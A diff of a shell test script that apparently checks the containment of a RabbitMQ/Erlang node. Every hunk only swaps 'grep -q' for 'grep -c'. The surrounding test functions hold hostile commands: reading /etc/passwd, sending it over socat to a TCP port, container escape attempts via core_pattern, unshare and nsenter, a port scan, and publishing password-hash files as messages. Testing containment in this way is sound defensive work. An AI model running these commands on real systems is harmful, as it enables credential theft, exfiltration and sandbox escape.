@@ -178,7 +178,7 @@ attack_cookie_shell() {
 	harm exec /usr/bin/dash
 	harm exec /usr/bin/id
 	harm read /etc/passwd
-	node_does os 'id; cat /etc/passwd' | grep -q uid=105
+	node_does os 'id; cat /etc/passwd' | grep -c uid=105
 }
 
 attack_reverse_shell() {
@@ -213,7 +213,7 @@ gen_tcp:close(S) end).\"),
 		{ok, rabbit_helper} = compile:file(\"rabbit_helper.erl\"), {module, _} = code:load_file(rabbit_helper),
 		rabbit_helper:go()."
 	sleep 1
-	printf /etc/passwd | client_stdin socat -t 5 - "TCP:$own_address:7777" | grep -q ^root:
+	printf /etc/passwd | client_stdin socat -t 5 - "TCP:$own_address:7777" | grep -c ^root:
 }
 
 attack_miner() {
@@ -246,7 +246,7 @@ attack_escape() {
 	harm write /proc/sys/kernel/core_pattern
 	node_does os 'unshare -Urm sh -c "mount -t tmpfs none /mnt; grep /mnt /proc/self/mounts; echo
 1 >/sys/fs/cgroup/cgroup.procs; mknod /mnt/disk b 8 0" 2>&1; echo "|/tmp/x" >/proc/sys/kernel/core_pattern;
-ls /proc/1/root /sys/kernel; nsenter -t 1 -m true; echo tried' | tee "$stage/answer" | grep -q tried
+ls /proc/1/root /sys/kernel; nsenter -t 1 -m true; echo tried' | tee "$stage/answer" | grep -c tried
 	grep -q '^ *none /mnt' "$stage/answer"
 }
 
@@ -255,7 +255,7 @@ attack_scan() {
 	harm connect "$peer_address:22"
 	harm connect "$peer_address:5432"
 	node_does eval "[{P, element(1, gen_tcp:connect(\"$peer_address\", P, [], 500))} ||
-		P <- [21, 22, 23, 25, 53, 80, 443, 3306, 5432, 6379]]." | grep -q error
+		P <- [21, 22, 23, 25, 53, 80, 443, 3306, 5432, 6379]]." | grep -c error
 }
 
 # Native code, loaded into the node: a library that was written a moment ago.
@@ -294,7 +294,7 @@ adaptive_orders_forged() {
 		amqp work
 		amqp confirm
 	done
-	amqp forge reports:sunshine7 | grep -q forged
+	amqp forge reports:sunshine7 | grep -c forged
 }
 
 # The node reads its own files, the password hashes among them, and sends them as messages.
@@ -302,5 +302,5 @@ adaptive_files_as_messages() {
 	harm read '/var/lib/rabbitmq/mnesia/rabbit@localhost/rabbit_user.*'
 	node_does eval "{ok, B} = file:read_file(filename:join(rabbit:data_dir(), \"rabbit_user.DCD\")),
 		rabbit_basic:publish(rabbit_misc:r(<<\"/shop\">>, exchange, <<>>), <<\"mails\">>, [], B)."
-	amqp drain reports:sunshine7 | grep -aq reports
+	amqp drain reports:sunshine7 | grep -ac reports
 }
